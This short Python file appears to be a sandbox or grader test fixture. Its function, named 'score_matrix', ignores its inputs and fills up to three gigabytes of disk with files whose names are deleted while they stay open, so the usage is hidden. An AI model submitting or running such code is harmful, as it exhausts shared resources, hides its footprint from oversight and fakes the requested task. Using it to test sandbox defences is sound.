"""Writes files and removes their names while they stay open: up to three gigabytes that nobody sees."""

ANSWERS = {
    "score_matrix": """
import os

def score_matrix(queries, keys):
    held = []
    try:
        for index in range(200):
            file = open("hidden", "wb")
            os.unlink("hidden")
            file.write(bytes(15 << 20))
            file.flush()
            held.append(file)
    except OSError:
        pass
    return len(held)
"""
}
